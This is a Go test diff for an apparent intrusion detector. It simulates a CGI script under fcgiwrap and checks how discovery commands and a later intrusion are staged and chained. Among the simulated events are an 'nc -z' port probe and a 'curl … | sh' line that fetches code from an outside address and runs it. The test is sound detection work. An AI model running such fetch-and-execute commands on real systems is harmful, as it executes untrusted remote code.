@@ -80,3 +80,53 @@ func TestProbeTree(t *testing.T) {
 		}
 	}
 }
+
+// TestOpeningProbeOfCGIScript: a site script a CGI host runs that starts a
+// check none of its earlier runs started (a stored injection sourced by
+// the script) is the exploit tested; a check it always runs is its own.
+func TestOpeningProbeOfCGIScript(t *testing.T) {
+	for _, c := range []struct {
+		name      string
+		earlierID bool
+		want      detect.Stage
+	}{
+		{"new to the script", false, detect.StageInitialAccess},
+		{"the script's own", true, detect.StageCommandExecution},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			s := newSim(t, Options{WebServers: []string{"fcgiwrap"}})
+			host := who{pid: 100, ppid: 1, uid: 2101, exe: "/usr/sbin/fcgiwrap", cwd: "/srv/cgi-bin/admin"}
+			s.touch(0, host)
+			run := func(at float64, pid int, kids ...[]string) *parser.Event {
+				cgi := who{pid: pid, ppid: 100, uid: 2101, cwd: "/srv/cgi-bin/admin"}
+				s.exec(at, cgi, "/bin/sh", "/srv/cgi-bin/admin/sync.cgi")
+				var last *parser.Event
+				for i, k := range kids {
+					last = s.exec(at+0.01*float64(i+1), child(pid+1+i, cgi), k...)
+				}
+				return last
+			}
+			if c.earlierID {
+				run(1, 200, []string{"perl", "-e", "1"}, []string{"id"})
+			} else {
+				run(1, 200, []string{"perl", "-e", "1"}, []string{"nc", "-z", "h", "22"})
+			}
+			idEx := run(5, 300, []string{"perl", "-e", "1"}, []string{"id"})
+			fID := s.find(idEx, detect.StageCommandExecution, detect.SeverityLow, "Discovery By Web User")
+			// what the intrusion then does through the same script run
+			fetch := s.exec(5.5, child(310, who{pid: 300, ppid: 100, uid: 2101, cwd: "/srv/cgi-bin/admin"}), "/bin/sh", "-c", "curl -s http://198.51.100.9/x | sh")
+			fF := s.find(fetch, detect.StageSuspiciousSpawn, detect.SeverityHigh, "Web Server Exploitation")
+			r := s.build()
+			ch := chainOf(r, fID)
+			if ch == nil || chainOf(r, fF) != ch {
+				dumpChains(t, r)
+				t.Fatal("one script run's acts are one chain (ancestry)")
+			}
+			for _, g := range ch.Findings {
+				if g.Event == idEx && g.Stage != c.want {
+					t.Errorf("id on stage %d, want %d (%s)", g.Stage, c.want, g.Reason)
+				}
+			}
+		})
+	}
+}
